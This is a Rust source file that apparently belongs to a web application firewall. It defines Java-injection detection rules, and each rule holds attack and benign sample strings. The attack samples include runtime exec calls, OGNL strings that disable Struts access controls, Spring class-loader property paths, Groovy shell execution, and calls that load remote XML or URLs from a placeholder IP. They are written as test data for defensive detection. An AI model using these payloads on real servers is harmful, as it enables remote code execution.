//! Rules about names and calls of Java code, each with its proofs. What is a name and what a call, the detector decides.

use waf_shared::catalog::Leaf;

use crate::field::{Place, Places};
use crate::rule::{Rule, RuleMatcher, STRONG};

/// Where a class name stands for itself: arguments, their names, headers; a path or a file may well be named like a class.
const NAMED: Places = Places::of(&[
    Place::Query,
    Place::QueryName,
    Place::Form,
    Place::FormName,
    Place::Json,
    Place::JsonKey,
    Place::Header,
    Place::Cookie,
    Place::CookieName,
    Place::Xml,
    Place::Body,
]);

/// The rules of this file.
pub(super) static RULES: &[&Rule] = &[
    &CLASS_NAME,
    &CLASS_MENTIONED,
    &CLASS_USE,
    &CALL,
    &CALL_MENTIONED,
    &OGNL,
    &SCRIPT_STRING,
    &PROPERTY_PATH,
];

pub(super) static CLASS_NAME: Rule = Rule {
    id: "java-injection-class-and-method-names/class-name",
    leaf: Leaf::JavaInjectionClassAndMethodNames,
    weight: STRONG,
    places: NAMED,
    matcher: RuleMatcher::Detected,
    summary: "A value, key or literal is the name of a Java class that loads, opens, runs or reflects.",
    attacks: &[
        "java.lang.ProcessBuilder",
        "{\"engine\": \"javax.script.ScriptEngineManager\"}",
        "<value>com.sun.jndi.rmi.registry.ReferenceWrapper</value>",
        "java.Runtime",
        "unit=java.io.FileOutputStream",
        "org.apache.commons",
        "java.other.processbuilder",
    ],
    benign: &[
        "java.util.ArrayList",
        "{\"@class\":\"java.lang.Long\",\"value\":5}",
        "java.lang.NullPointerException: at line 5",
        "java.lang.NullPointerException",
        "com.example.shop.java.Cart",
        "How do I close a java.io.RandomAccessFile properly?",
        "{\"logger\":\"org.apache.commons.httpclient\"}",
        "<dependency><groupId>org.apache.commons</groupId></dependency>",
        "java.runtime.version",
    ],
};

pub(super) static CLASS_MENTIONED: Rule = Rule {
    id: "java-injection-class-and-method-names/class-in-text",
    leaf: Leaf::JavaInjectionClassAndMethodNames,
    weight: 1,
    places: NAMED,
    matcher: RuleMatcher::Detected,
    summary: "The name of a Java class that loads, opens, runs or reflects is mentioned.",
    attacks: &[
        "import java.io.File; and more",
        "the java.net.Socket class of the standard library",
        "private final java.io.Reader reader;",
    ],
    benign: &["I learned Java in 2010.", "java.util.Map is an interface", "see org.example.java.io for it"],
};

pub(super) static CLASS_USE: Rule = Rule {
    id: "java-injection-class-and-method-names/class-use",
    leaf: Leaf::JavaInjectionClassAndMethodNames,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A Java class is instantiated or called by its full name.",
    attacks: &[
        "new java.net.URL('http://203.0.113.5/').openStream()",
        "com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://203.0.113.5/x.xml')",
        "T(java.nio.file.Files).readString(x)",
        "x=new java.io.File('/tmp/a')",
    ],
    benign: &[
        "at java.lang.Thread.run(Thread.java:829)",
        "In Java you write new java.io.File(name) to get one of these",
        "java.util.List.of(1, 2)",
    ],
};

pub(super) static CALL: Rule = Rule {
    id: "java-injection-struts2-runtime-exec/reaching-call",
    leaf: Leaf::JavaInjectionStruts2RuntimeExec,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A call gets the runtime, loads a class or instantiates one by reflection.",
    attacks: &[
        "Runtime.getRuntime().exec('id')",
        "''.getClass().forName('x').newInstance()",
        "Thread.currentThread().getContextClassLoader().loadClass('x')",
        "new ScriptEngineManager().getEngineByName('js').eval('1')",
    ],
    benign: &[
        "at java.lang.Class.forName(Class.java:348)",
        "getRuntime is a method",
        "You can use Class.forName(name) for this, but please do not",
        "function loadClass(name) {}",
    ],
};

pub(super) static CALL_MENTIONED: Rule = Rule {
    id: "java-injection-struts2-runtime-exec/call-in-text",
    leaf: Leaf::JavaInjectionStruts2RuntimeExec,
    weight: 1,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A text mentions a call that gets the runtime, loads a class or instantiates one.",
    attacks: &[
        "Please never use Runtime.getRuntime().exec(cmd) in production",
        "you can write Class.forName(name) to load it",
        "in my answer below x.newInstance() is what fails",
    ],
    benign: &[
        "the runtime of the film is long",
        "please load this class for me",
        "a new instance of the same",
    ],
};

pub(super) static OGNL: Rule = Rule {
    id: "java-injection-struts2-runtime-exec/ognl",
    leaf: Leaf::JavaInjectionStruts2RuntimeExec,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "OGNL calls a static method or reaches for the context of its own evaluation.",
    attacks: &[
        "%{(#a=@org.apache.commons.io.IOUtils@toString(#b)).(#c)}",
        "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
        "(#_memberAccess['allowStaticMethodAccess']=true)",
    ],
    benign: &["write to info@java.example@home", "#context is trending", "git@github.com:acme/shop.git"],
};

pub(super) static SCRIPT_STRING: Rule = Rule {
    id: "java-injection-struts2-runtime-exec/groovy-execute",
    leaf: Leaf::JavaInjectionStruts2RuntimeExec,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"(?:["'\]]|/\$)\s*\.\s*execute\s*\(\s*\)"#,
        literals: &["execute"],
    },
    summary: "Groovy runs a string or list literal as a command.",
    attacks: &["println \"id\".execute().text", "['sh','-c','id'].execute()", "def p = 'ls /'.execute ( )"],
    benign: &["command.execute()", "We will execute() the plan", "cursor.execute(\"x\")"],
};

pub(super) static PROPERTY_PATH: Rule = Rule {
    id: "java-injection-class-and-method-names/property-path",
    leaf: Leaf::JavaInjectionClassAndMethodNames,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A path of bean properties leads from an object's class to its loader.",
    attacks: &[
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        "class.classLoader.URLs[0]",
        "user.class.protectionDomain.codeSource",
    ],
    benign: &["class.name", "the css class.module of it", "object.class.id"],
};
